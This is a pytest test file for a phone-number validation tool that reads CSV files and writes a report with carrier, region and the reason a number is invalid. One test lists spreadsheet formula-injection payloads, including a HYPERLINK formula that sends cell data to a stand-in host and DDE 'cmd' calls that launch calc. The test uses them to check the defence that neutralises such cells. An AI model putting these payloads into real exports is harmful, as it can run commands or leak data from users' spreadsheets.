"""`numbers check`: the offline report on a file of numbers, its input forms and its scale."""

from __future__ import annotations

import csv
import io
import random
import sys
import time
from collections import Counter
from pathlib import Path

import pytest

from gateway import numbercheck, phones
from gateway.config import NumbersConfig
from gateway.numbercheck import REPORT_COLUMNS, CheckResult, check_file, check_rows

MOBILE = "+6281234567890"  # Telkomsel, Indonesia
JAKARTA_LANDLINE = "+62215551234"
HEADER = ["input", "e164", "valid", "type", "reason", "carrier", "region"]


def check_text(text: str, region: str = "ID") -> tuple[list[dict[str, str]], numbercheck.Summary]:
    """The report rows and summary for a CSV given as text."""
    report = io.StringIO(newline="")
    summary = check_file(io.StringIO(text, newline=""), report, region)
    report.seek(0)
    rows = list(csv.reader(report))
    assert rows[0] == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]], summary


def reasons(rows: list[dict[str, str]]) -> list[str]:
    return [row["reason"] or row["type"] for row in rows]


# -- one number --------------------------------------------------------------


@pytest.mark.parametrize("raw", [MOBILE, "081234567890", "+62 812-3456-7890"])
def test_indonesian_mobiles_are_valid_with_carrier_and_region(raw: str) -> None:
    [result] = check_rows([raw], "ID")
    assert result == CheckResult(raw, MOBILE, True, "mobile", None, "Telkomsel", "ID")


def test_a_jakarta_landline_is_a_valid_fixed_line() -> None:
    [result] = check_rows([JAKARTA_LANDLINE], "ID")
    assert (result.e164, result.valid, result.type, result.region) == (
        JAKARTA_LANDLINE,
        True,
        "fixed_line",
        "ID",
    )


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        ("+62812", "too_short"),
        ("+999123456789", "invalid_country_code"),
        ("hello", "not_a_number"),
        ("", "not_a_number"),
        ("\x00\x01\ufffd", "not_a_number"),
        ("0812\r\n34567890", "not_a_number"),
        ("0812345", "invalid_for_region"),
    ],
)
def test_invalid_numbers_carry_their_reason_and_nothing_else(raw: str, reason: str) -> None:
    [result] = check_rows([raw], "ID")
    assert result == CheckResult(raw, None, False, None, reason, None, None)


def test_national_numbers_read_with_the_default_region() -> None:
    [result] = check_rows(["012 345 6789"], "MY")
    assert (result.e164, result.region, result.type) == ("+60123456789", "MY", "mobile")


@pytest.mark.parametrize(
    "raw", [MOBILE, "081234567890", JAKARTA_LANDLINE, "+62812", "+999123456789", "junk"]
)
def test_results_match_what_the_http_api_describes(raw: str) -> None:
    [result] = check_rows([raw], "ID")
    described = phones.describe(raw, "ID", NumbersConfig())
    for name in ("input", "e164", "valid", "type", "reason", "carrier", "region"):
        assert getattr(result, name) == described.get(name), name


def test_a_very_long_cell_is_echoed_cut() -> None:
    [result] = check_rows(["9" * 10_000], "ID")
    assert result.reason == "not_a_number"
    assert len(result.input) == numbercheck.MAX_ECHOED_INPUT + 1


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://x.invalid/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",  # a full-width =
        "+62 812-3456-7890",  # a real number, but a + followed by more than digits
    ],
)
def test_cells_a_spreadsheet_would_run_are_echoed_with_a_leading_quote(cell: str) -> None:
    """OWASP's CSV injection rule: a cell that starts a formula gets a ' before it."""
    source = io.StringIO(newline="")
    csv.writer(source).writerow([cell])
    rows, _ = check_text(source.getvalue())
    assert [row["input"] for row in rows] == ["'" + cell]
    for value in rows[0].values():
        assert not value.startswith(numbercheck.FORMULA_STARTS) or value[1:].isdigit()


def test_a_plus_and_digits_alone_are_left_as_they_are() -> None:
    rows, _ = check_text(f"{MOBILE}\n+6212\n")
    assert [(row["input"], row["e164"]) for row in rows] == [(MOBILE, MOBILE), ("+6212", "")]


# -- the file ----------------------------------------------------------------


def test_without_a_header_the_first_column_of_every_row_is_read() -> None:
    rows, summary = check_text(f"{MOBILE},alice\n+62812,bob\n{JAKARTA_LANDLINE}\n")
    assert [row["input"] for row in rows] == [MOBILE, "+62812", JAKARTA_LANDLINE]
    assert reasons(rows) == ["mobile", "too_short", "fixed_line"]
    assert (summary.total, summary.valid, summary.invalid) == (3, 2, 1)


@pytest.mark.parametrize("header", ["phone", "Phone", " PHONE "])
def test_a_phone_header_names_the_column_read(header: str) -> None:
    rows, summary = check_text(f"name,{header},note\nalice,{MOBILE},x\nbob,hello,y\ncarol\n")
    assert [row["input"] for row in rows] == [MOBILE, "hello", ""]
    assert reasons(rows) == ["mobile", "not_a_number", "not_a_number"]
    assert summary.total == 3


def test_blank_lines_are_skipped() -> None:
    rows, summary = check_text(f"\n\nphone\n\n{MOBILE}\n  \n,\n\r\n081234567890\n\n")
    assert [row["e164"] for row in rows] == [MOBILE, MOBILE]
    assert summary.total == 2


def test_a_bom_the_caller_kept_is_dropped() -> None:
    rows, _ = check_text(f"\ufeffphone\n{MOBILE}\n")
    assert [row["e164"] for row in rows] == [MOBILE]
    rows, _ = check_text(f"\ufeff{MOBILE}\n")
    assert [row["e164"] for row in rows] == [MOBILE]


def test_report_rows_keep_input_order_and_every_column() -> None:
    numbers = [MOBILE, "+62812", JAKARTA_LANDLINE, "+999123456789", "x"]
    rows, _ = check_text("".join(f"{n}\n" for n in numbers))
    assert [row["input"] for row in rows] == numbers
    assert rows[0] == {
        "input": MOBILE,
        "e164": MOBILE,
        "valid": "true",
        "type": "mobile",
        "reason": "",
        "carrier": "Telkomsel",
        "region": "ID",
    }
    assert rows[1]["valid"] == "false"
    assert list(REPORT_COLUMNS) == HEADER


def test_summary_counts_invalid_by_reason_and_valid_by_type() -> None:
    _, summary = check_text(f"{MOBILE}\n{MOBILE}\n{JAKARTA_LANDLINE}\n+62812\nx\ny\n")
    assert summary.valid_by_type == Counter(mobile=2, fixed_line=1)
    assert summary.invalid_by_reason == Counter(not_a_number=2, too_short=1)
    assert summary.describe() == (
        "Checked 6 numbers: 3 valid (2 mobile, 1 fixed_line), "
        "3 invalid (2 not_a_number, 1 too_short)."
    )


def test_progress_is_told_every_input_line() -> None:
    text = "phone\n" + "".join(f"{MOBILE}\n\n" for _ in range(5000))
    told: list[int] = []
    check_file(io.StringIO(text, newline=""), io.StringIO(), "ID", on_progress=told.append)
    assert told == [4000, 4000, 2001]  # once per batch of 2,000 numbers
    assert sum(told) == text.count("\n")


def test_a_pool_of_workers_writes_the_same_report_in_order(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(numbercheck, "BATCH_SIZE", 7)  # many batches from a small file
    rng = random.Random(4)
    text = "".join(
        f"{rng.choice([MOBILE, '+62812', 'x', JAKARTA_LANDLINE])}{i}\n" for i in range(100)
    )
    reports = []
    for workers in (1, 2):
        report = io.StringIO()
        check_file(io.StringIO(text, newline=""), report, "ID", workers=workers)
        reports.append(report.getvalue())
    assert reports[0] == reports[1]
    assert reports[0].count("\n") == 101


# -- odd input ---------------------------------------------------------------


def test_line_breaks_inside_quoted_cells_are_one_invalid_row() -> None:
    rows, summary = check_text(f'"0812\r\n3456 7890"\n"+62\n812"\n{MOBILE}\n')
    assert reasons(rows) == ["not_a_number", "not_a_number", "mobile"]
    assert rows[0]["input"] == "0812\r\n3456 7890"
    assert summary.total == 3


def test_a_line_longer_than_the_limit_is_one_invalid_row() -> None:
    rows, _ = check_text(f"{MOBILE}\n{'7' * 1_000_000},more\n{MOBILE}\n")
    assert reasons(rows) == ["mobile", "not_a_number", "mobile"]


def test_an_unterminated_quote_past_the_field_limit_is_an_invalid_row() -> None:
    junk = '"' + "9" * 60_000 + "\n" + "9" * 60_000 + "\n" + "9" * 60_000 + "\n"
    rows, summary = check_text(f"{MOBILE}\n{junk}{MOBILE}\n")
    assert rows[0]["reason"] == "" and rows[-1]["e164"] == MOBILE
    assert "not_a_number" in reasons(rows)
    assert summary.valid == 2


def test_binary_junk_reads_as_not_a_number(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "junk.csv"
    source.write_bytes(b"phone\n\xff\xfe\x00\x80junk\n" + MOBILE.encode() + b"\n\x00\n")
    report = tmp_path / "report.csv"
    assert numbercheck.main(str(source), str(report), "ID") == 0
    with report.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["reason"] or row["type"] for row in rows] == [
        "not_a_number",
        "mobile",
        "not_a_number",
    ]
    assert capsys.readouterr().err.startswith("Checked 3 numbers: 1 valid")


# -- main ----------------------------------------------------------------------


def test_main_writes_the_report_and_a_summary(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "numbers.csv"
    source.write_bytes(b"\xef\xbb\xbfPhone\r\n" + f"{MOBILE}\r\n+62812\r\n".encode())
    report = tmp_path / "report.csv"
    assert numbercheck.main(str(source), str(report), "id") == 0
    lines = report.read_text(encoding="utf-8").splitlines()
    assert lines == [
        ",".join(HEADER),
        f"{MOBILE},{MOBILE},true,mobile,,Telkomsel,ID",
        "+62812,,false,,too_short,,",
    ]
    out, err = capsys.readouterr()
    assert out == ""
    assert err == "Checked 2 numbers: 1 valid (1 mobile), 1 invalid (1 too_short).\n"


def test_main_reads_stdin_and_writes_stdout(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    stdin = io.TextIOWrapper(io.BytesIO(f"{MOBILE}\n".encode()))
    monkeypatch.setattr(sys, "stdin", stdin)
    assert numbercheck.main("-", None, "ID") == 0
    out, err = capsys.readouterr()
    assert out.splitlines() == [",".join(HEADER), f"{MOBILE},{MOBILE},true,mobile,,Telkomsel,ID"]
    assert "1 valid" in err


class FakeTerminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_a_progress_bar_only_on_a_terminal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "numbers.csv"
    source.write_text("".join(f"{MOBILE}\n" for _ in range(10)))
    assert numbercheck.main(str(source), str(tmp_path / "a.csv"), "ID") == 0
    assert "\r" not in capsys.readouterr().err

    terminal = FakeTerminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    assert numbercheck.main(str(source), str(tmp_path / "b.csv"), "ID") == 0
    assert "100%" in terminal.getvalue()
    assert "lines/s" in terminal.getvalue()
    assert terminal.getvalue().endswith("Checked 10 numbers: 10 valid (10 mobile), 0 invalid.\n")


@pytest.mark.parametrize("name", ["missing.csv", "."])
def test_an_unreadable_file_is_one_clear_line(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / name
    assert numbercheck.main(str(path), None, "ID") == 1
    out, err = capsys.readouterr()
    assert out == ""
    assert err.startswith(f"cannot read {path}: ")
    assert "Traceback" not in err and err.count("\n") == 1


def test_an_unwritable_report_is_one_clear_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "numbers.csv"
    source.write_text(f"{MOBILE}\n")
    assert numbercheck.main(str(source), str(tmp_path / "no" / "report.csv"), "ID") == 1
    assert capsys.readouterr().err.startswith(f"cannot write {tmp_path / 'no' / 'report.csv'}: ")


def test_an_unknown_region_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "numbers.csv"
    source.write_text(f"{MOBILE}\n")
    assert numbercheck.main(str(source), None, "XX") == 1
    assert "unknown region 'XX'" in capsys.readouterr().err


# -- scale ---------------------------------------------------------------------

# Prefixes phonenumbers reads as Indonesian mobiles (8[1-35-9], then 7-10 more digits).
MOBILE_PREFIXES = ("0811", "0812", "0813", "0821", "0852", "0856", "0857", "0878", "0896", "0881")
TOO_SHORT = ("+62812", "0812", "+6281", "081", "(0812)")


def generated_numbers(rng: random.Random) -> list[tuple[str, str]]:
    """100,000 (input, expected type or reason): 60% mobile, 20% fixed, 10% short, 10% junk."""

    def digits(n: int) -> str:
        return "".join(rng.choices("0123456789", k=n))

    numbers = []
    for _ in range(60_000):
        national = rng.choice(MOBILE_PREFIXES) + digits(rng.choice((7, 8)))
        typed = rng.choice((national, "+62 " + national[1:], f"{national[:4]}-{national[4:]}"))
        numbers.append((typed, "mobile"))
    for _ in range(20_000):
        numbers.append(("021" + digits(rng.choice((7, 8))), "fixed_line"))  # Jakarta
    for _ in range(10_000):
        numbers.append((rng.choice(TOO_SHORT), "too_short"))
    for _ in range(10_000):
        junk = "".join(rng.choices("abcxyz!?#*@ ", k=rng.randint(1, 12)))
        numbers.append((junk, "not_a_number"))
    rng.shuffle(numbers)
    return numbers


def test_a_hundred_thousand_numbers_are_counted_exactly(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    numbers = generated_numbers(random.Random(20260401))
    source = tmp_path / "numbers.csv"
    with source.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(["customer", "phone"])
        writer.writerows([f"c{i}", typed] for i, (typed, _) in enumerate(numbers))
    report = tmp_path / "report.csv"

    started = time.perf_counter()
    assert numbercheck.main(str(source), str(report), "ID") == 0
    elapsed = time.perf_counter() - started

    err = capsys.readouterr().err
    assert err == (
        "Checked 100,000 numbers: 80,000 valid (60,000 mobile, 20,000 fixed_line), "
        "20,000 invalid (10,000 not_a_number, 10,000 too_short).\n"
    )
    with report.open(newline="", encoding="utf-8") as file:
        rows = [(row["input"], row["reason"] or row["type"]) for row in csv.DictReader(file)]
    # Input cells a spreadsheet would read as a formula come back with a leading quote.
    assert rows == [(numbercheck.spreadsheet_safe(typed), kind) for typed, kind in numbers]
    assert sum(typed.startswith("+62 ") for typed, _ in numbers) > 10_000
    with capsys.disabled():
        print(f"\n100,000 numbers checked in {elapsed:.2f} s")
